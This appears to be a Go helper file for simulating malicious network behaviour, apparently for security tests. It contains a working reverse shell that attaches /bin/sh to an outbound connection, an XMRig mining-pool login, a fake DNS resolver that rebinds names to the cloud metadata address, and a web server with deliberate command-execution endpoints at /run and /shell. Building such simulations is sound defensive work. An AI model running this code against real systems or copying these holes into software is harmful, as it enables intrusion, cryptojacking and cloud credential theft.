package main

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// dial calls somebody; nobody needs to answer.
func dial(network, address string) error {
	c, err := net.DialTimeout(network, address, time.Second)
	if err != nil {
		return nil
	}
	return c.Close()
}

func stratum(pool string) error {
	c, err := net.Dial("tcp", pool)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = io.WriteString(c, `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"XMRig/6.21.0"}}`+"\n")
	if err != nil {
		return err
	}
	_, err = bufio.NewReader(c).ReadString('\n')
	return err
}

// reverse becomes a shell whose terminal is a connection.
func reverse(address string) error {
	c, err := net.Dial("tcp", address)
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	return unix.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
}

// listen gives everybody who calls a line, and listens for a moment.
func listen(address, line string) error {
	l, err := net.Listen("tcp", address)
	if err != nil {
		return err
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer c.Close()
			time.Sleep(100 * time.Millisecond)
			fmt.Fprintln(c, line)
			_ = c.SetReadDeadline(time.Now().Add(time.Second))
			_, _ = io.Copy(io.Discard, c)
		}()
	}
}

// resolver answers every question: names that begin with rebind lead to where
// clouds tell their machines secrets.
func resolver() error {
	c, err := net.ListenPacket("udp", "127.0.0.1:53")
	if err != nil {
		return err
	}
	b := make([]byte, 512)
	for {
		n, who, err := c.ReadFrom(b)
		if err != nil {
			return err
		}
		if n < 17 {
			continue
		}
		address := []byte{192, 0, 2, 7}
		if strings.HasPrefix(string(b[13:n]), "rebind") {
			address = []byte{169, 254, 169, 254}
		}
		answer := append([]byte{}, b[:n]...)
		answer[2], answer[3], answer[7] = 0x81, 0x80, 1
		answer = append(answer, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4)
		if _, err := c.WriteTo(append(answer, address...), who); err != nil {
			return err
		}
	}
}

// ask asks for the addresses of names.
func ask(names []string) error {
	for i, name := range names {
		c, err := net.Dial("udp", "127.0.0.1:53")
		if err != nil {
			return err
		}
		q := binary.BigEndian.AppendUint16(nil, uint16(i+1))
		q = append(q, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0)
		for label := range strings.SplitSeq(name, ".") {
			q = append(append(q, byte(len(label))), label...)
		}
		if _, err := c.Write(append(q, 0, 0, 1, 0, 1)); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
		if _, err := c.Read(make([]byte, 512)); err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		c.Close()
	}
	return nil
}

// web serves requests, as applications do, and has two holes: /run runs a
// command, /shell lets a shell read what it is sent.
func web(address string) error {
	output := func(w http.ResponseWriter, cmd *exec.Cmd) {
		out, err := cmd.CombinedOutput()
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		_, _ = w.Write(out)
	}
	http.HandleFunc("/run", func(w http.ResponseWriter, r *http.Request) {
		output(w, exec.Command("/bin/sh", "-c", r.URL.Query().Get("c")))
	})
	http.HandleFunc("/shell", func(w http.ResponseWriter, r *http.Request) {
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin = strings.NewReader(r.URL.Query().Get("c") + "\n")
		output(w, cmd)
	})
	http.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "hello") })
	return http.ListenAndServe(address, nil)
}

// get sends a request; after the first ? stands what is to be encoded.
func get(target string) error {
	path, query, _ := strings.Cut(target, "?")
	if query != "" {
		path += "?c=" + url.QueryEscape(query)
	}
	res, err := http.Get("http://" + path)
	if err != nil {
		return err
	}
	defer res.Body.Close()
	_, err = io.Copy(os.Stdout, res.Body)
	return err
}
